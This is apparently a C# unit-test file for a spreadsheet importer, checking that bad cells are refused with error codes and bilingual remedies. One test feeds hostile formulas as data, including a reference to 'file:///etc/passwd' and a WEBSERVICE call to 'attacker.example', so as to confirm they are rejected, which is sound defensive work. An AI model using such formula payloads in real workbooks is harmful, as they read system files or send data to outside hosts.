using Yuimori.Catalogue;
using Yuimori.Kernel.Text;
using Yuimori.Workbench.Sheet;
using Yuimori.Workbench.Sheet.Excel;

namespace Yuimori.Workbench.Tests.Sheet;

/// <summary>Each kind of bad cell: the code, the cell's address, and a remedy in both languages.</summary>
public sealed class SheetBadCellTests
{
    private static readonly EvaluationSheet Sheet =
        Sheets.Uc4.With(SheetAnswers.None.With(Sheets.Alpha).With(Sheets.Beta));

    private static readonly byte[] Exported = Books.Of(Sheet, Language.Japanese, new SheetFilter { Points = ["KP-16"] });

    private readonly TestBook _book = new(Exported);

    private int Level => _book.ColumnOf("level/manufacture/alpha");

    private int Level2 => _book.ColumnOf("level/manufacture/beta");

    private int Note => _book.ColumnOf("note/manufacture/alpha");

    private int Row => Enumerable.Range(4, _book.LastRow - 3)
        .First(r => Sheet.Find(_book.Text(TestBook.Grid, r, 1))!.Cell(LifecyclePhase.Manufacture).IsAsked);

    [Theory]
    [InlineData(7, "XLSX-30")]
    [InlineData(-5, "XLSX-30")]
    [InlineData(100, "XLSX-30")]
    public void Level_OtherNumber_IsRefused(int number, string code)
    {
        _book.Type(TestBook.Grid, Row, Level, number);
        Expect(code, Row, Level);
    }

    [Theory]
    [InlineData("十点", "XLSX-31")]
    [InlineData("実施済み", "XLSX-31")]
    [InlineData("7", "XLSX-30")]
    [InlineData("10点", "XLSX-31")]
    public void Level_Text_IsRefused(string text, string code)
    {
        _book.Type(TestBook.Grid, Row, Level, text);
        Expect(code, Row, Level);
    }

    [Fact]
    public void Level_TruthValue_IsRefused()
    {
        _book.Put(TestBook.Grid, Row, Level, "b", TestBook.Element("v", "1"));
        Expect("XLSX-31", Row, Level);
    }

    [Fact]
    public void Level_Date_IsRefusedAndShownAsADate()
    {
        _book.Put(TestBook.Grid, Row, Level, "d", TestBook.Element("v", "2026-10-05"));
        Assert.Equal("2026-10-05", Expect("XLSX-32", Row, Level).Came);
    }

    [Fact]
    public void Level_NumberShownAsADate_IsRefusedAndShownAsADate()
    {
        _book.ReplaceIn("xl/styles.xml", "<x:cellXfs>", "<x:cellXfs><x:xf numFmtId=\"14\"/>");
        _book.Put(TestBook.Grid, Row, Level, "n", TestBook.Element("v", "46300"));
        _book.Data(TestBook.Grid).Descendants().Single(c => (string?)c.Attribute("r") == CellAddress.Of(Level, Row))
            .SetAttributeValue("s", 0);
        Assert.Equal("2026-10-05", Expect("XLSX-32", Row, Level).Came);
    }

    [Theory]
    [InlineData("#REF!")]
    [InlineData("#N/A")]
    [InlineData("#DIV/0!")]
    public void Formula_Error_IsRefused(string error)
    {
        _book.Put(TestBook.Grid, Row, Level, "e", TestBook.Element("f", "A1"), TestBook.Element("v", error));
        Assert.Equal(error, Expect("XLSX-33", Row, Level).Came);
    }

    [Fact]
    public void Formula_WithoutAValue_IsRefused()
    {
        _book.Put(TestBook.Grid, Row, Note, "n", TestBook.Element("f", "A1"));
        Expect("XLSX-34", Row, Note);
    }

    [Theory]
    [InlineData("[1]Sheet1!A1")]
    [InlineData("'file:///etc/passwd'#$Sheet1.A1")]
    [InlineData("WEBSERVICE(\"https://attacker.example\")")]
    public void ExternalLink_Formula_IsRefused(string formula)
    {
        _book.Put(TestBook.Grid, Row, Note, "str", TestBook.Element("f", formula), TestBook.Element("v", "x"));
        Expect("XLSX-35", Row, Note);
    }

    [Fact]
    public void Note_TooLong_IsRefused()
    {
        _book.Type(TestBook.Grid, Row, Note, new string('長', 2001));
        Expect("XLSX-36", Row, Note);
    }

    [Theory]
    [InlineData("a\u0001b")]
    [InlineData("a\u202Eb")]
    [InlineData("a\u200Bb")]
    public void Note_ControlCharacters_AreRefused(string text)
    {
        _book.Type(TestBook.Grid, Row, Note, text);
        Expect("XLSX-37", Row, Note);
    }

    [Fact]
    public void Level_WhereNothingIsAsked_IsRefused()
    {
        var column = _book.ColumnOf("level/disposal/alpha");
        var row = Enumerable.Range(4, _book.LastRow - 3)
            .First(r => !Sheet.Find(_book.Text(TestBook.Grid, r, 1))!.Cell(LifecyclePhase.Disposal).IsAsked);
        _book.Type(TestBook.Grid, row, column, 10);
        Expect("XLSX-38", row, column);
    }

    [Fact]
    public void RowId_Overwritten_IsRefused()
    {
        var row = Row;
        _book.Type(TestBook.Grid, row, Level, 10);
        _book.Type(TestBook.Grid, row, 1, "12");
        Expect("XLSX-40", row, 1);
    }

    [Fact]
    public void RowId_MissingAndRowUnknown_IsRefused()
    {
        var row = _book.CopyRow(Row);
        _book.Clear(TestBook.Grid, row, 1);
        _book.Type(TestBook.Grid, row, 2, "新しい機器");
        _book.Type(TestBook.Grid, row, Level, 10);
        Expect("XLSX-40", row, 1);
    }

    [Fact]
    public void RowId_Unknown_IsRefused()
    {
        var row = Row;
        _book.Type(TestBook.Grid, row, 1, "malware@nowhere/KP-16");
        Expect("XLSX-42", row, 1);
    }

    [Fact]
    public void CopyOfARow_WithAnotherAnswer_IsRefused()
    {
        var (row, copy) = (Row, _book.CopyRow(Row));
        _book.Type(TestBook.Grid, row, Level, 10);
        _book.Type(TestBook.Grid, copy, Level, 5);
        var errors = SheetImporter.Read(_book.Save(), Sheet).Problems.Where(p => p.IsError);
        Assert.Equal(("XLSX-41", $"評価シート!{CellAddress.Of(Level, copy)}"), errors.Select(p => (p.Code, p.Place)).Single());
    }

    [Fact]
    public void FixedCell_Edited_IsRefused()
    {
        var (row, column) = (Row, _book.ColumnOf("risk"));
        _book.Type(TestBook.Grid, row, column, "別のリスク");
        Expect("XLSX-43", row, column);
    }

    [Fact]
    public void FixedCells_OfAPartlySortedTable_AreRefusedAtEachRow()
    {
        var rows = Enumerable.Range(4, 2).ToList();
        var ids = rows.Select(r => _book.Text(TestBook.Grid, r, 1)).ToList();
        _book.Type(TestBook.Grid, 4, 1, ids[1]);
        _book.Type(TestBook.Grid, 5, 1, ids[0]);
        _book.Type(TestBook.Grid, 4, Level, 10);
        var import = SheetImporter.Read(_book.Save(), Sheet);
        Assert.Contains(import.Problems, p => p.Code == "XLSX-43" && p.Place.EndsWith('4'));
        Assert.Contains(import.Problems, p => p.Code == "XLSX-43" && p.Place.EndsWith('5'));
        Assert.Empty(import.Changes);
    }

    [Fact]
    public void Measure_Edited_IsARemark()
    {
        var (row, column) = (Row, _book.ColumnOf("measure/manufacture"));
        _book.Type(TestBook.Grid, row, column, "当社の対策");
        Assert.False(Expect("XLSX-44", row, column).IsError);
    }

    [Fact]
    public void MergedCells_OverSeveralColumns_AreRefused()
    {
        var (row, column) = (Row, Level);
        _book.Type(TestBook.Grid, row, column, 10);
        _book.Merge($"{CellAddress.Of(column, row)}:{CellAddress.Of(column + 1, row)}");
        var problem = Assert.Single(SheetImporter.Read(_book.Save(), Sheet).Problems);
        Assert.Equal(
            ("XLSX-45", $"評価シート!{CellAddress.Of(column, row)}:{CellAddress.Of(column + 1, row)}"),
            (problem.Code, problem.Place));
    }

    [Fact]
    public void LevelColumn_Deleted_IsRefused()
    {
        var columns = _book.Cells(TestBook.Grid, 1).Select(c => c.Column).ToList();
        _book.OrderColumns([.. columns.Where(c => c != Level)]);
        var problem = Assert.Single(SheetImporter.Read(_book.Save(), Sheet).Problems);
        Assert.Equal(("XLSX-20", "評価シート!3:3"), (problem.Code, problem.Place));
        Assert.Contains("製造時", problem.What.Ja, StringComparison.Ordinal);
    }

    [Fact]
    public void LevelColumn_TwiceWithOtherAnswers_IsRefused()
    {
        var columns = _book.Cells(TestBook.Grid, 1).Count();
        var (asked, level) = (Row, Level);
        foreach (var row in Enumerable.Range(1, _book.LastRow))
            _book.Type(TestBook.Grid, row, columns + 1, row == asked ? "5" : _book.Text(TestBook.Grid, row, level));
        _book.Type(TestBook.Grid, asked, level, 10);
        var problem = Assert.Single(SheetImporter.Read(_book.Save(), Sheet).Problems);
        Assert.Equal(("XLSX-21", $"評価シート!{CellAddress.Of(columns + 1, asked)}"), (problem.Code, problem.Place));
    }

    [Fact]
    public void LevelColumn_OfAnUnknownProduct_IsRefused()
    {
        var column = Level;
        _book.Type(TestBook.Grid, 1, column, "yui:level/manufacture/alpa");
        var import = SheetImporter.Read(_book.Save(), Sheet);
        Assert.Contains(import.Problems, p => p.Code == "XLSX-22"
            && p.Place == $"評価シート!{CellAddress.Of(column, 3)}" && p.Remedy.Ja.Contains("alpha", StringComparison.Ordinal));
    }

    [Fact]
    public void Product_UnknownId_IsRefused()
    {
        _book.Type(TestBook.Products, 2, 1, "alphb");
        var problem = Assert.Single(SheetImporter.Read(_book.Save(), Sheet).Problems);
        Assert.Equal(("XLSX-22", "製品!A2"), (problem.Code, problem.Place));
        Assert.Contains("alpha", problem.Remedy.En, StringComparison.Ordinal);
    }

    [Fact]
    public void Product_Renamed_IsRefusedUnlessAllowed()
    {
        _book.Type(TestBook.Products, 3, 3, "Portal 2");
        var problem = Assert.Single(SheetImporter.Read(_book.Save(), Sheet).Problems);
        Assert.Equal(("XLSX-23", "製品!C3", "Portal 2"), (problem.Code, problem.Place, problem.Came));
        var allowed = SheetImporter.Read(_book.Save(), Sheet, new() { RenameProducts = true });
        Assert.Equal("Portal 2", allowed.Answers.Find("beta")!.Name);
    }

    [Fact]
    public void Product_NameOfSeveralLines_IsRefused()
    {
        _book.Type(TestBook.Products, 3, 3, "Portal\n2");
        Assert.Equal("XLSX-36", Assert.Single(SheetImporter.Read(_book.Save(), Sheet).Problems).Code);
    }

    [Fact]
    public void BadCell_LeavesTheGoodOnesReadable()
    {
        var rows = Enumerable.Range(4, _book.LastRow - 3)
            .Where(r => Sheet.Find(_book.Text(TestBook.Grid, r, 1))!.Cell(LifecyclePhase.Manufacture).IsAsked).ToList();
        _book.Type(TestBook.Grid, rows[0], Level, 7);
        _book.Type(TestBook.Grid, rows[1], Level, 10);
        _book.Type(TestBook.Grid, rows[0], Level2, 5);
        var import = SheetImporter.Read(_book.Save(), Sheet);
        Assert.False(import.IsOk);
        Assert.Equal(2, import.Changes.Count);
    }

    [Fact]
    public void EnglishWorkbook_NamesItsSheetInEnglish()
    {
        var book = new TestBook(Books.Of(Sheet, Language.English, new SheetFilter { Points = ["KP-16"] }));
        book.Type(TestBook.Grid, Row, Level, 7);
        Assert.Equal(
            $"Evaluation sheet!{CellAddress.Of(Level, Row)}",
            Assert.Single(SheetImporter.Read(book.Save(), Sheet).Problems).Place);
    }

    private SheetProblem Expect(string code, int row, int column)
    {
        var problem = Assert.Single(SheetImporter.Read(_book.Save(), Sheet).Problems);
        Assert.Equal((code, $"評価シート!{CellAddress.Of(column, row)}"), (problem.Code, problem.Place));
        Assert.All(new[] { problem.What, problem.Remedy }, t =>
        {
            Assert.True(t.Ja.EndsWith('。') && t.Ja.Any(c => c is >= '\u3040' and <= '\u30FF'), t.Ja);
            Assert.True(t.En.EndsWith('.'), t.En);
        });
        return problem;
    }
}
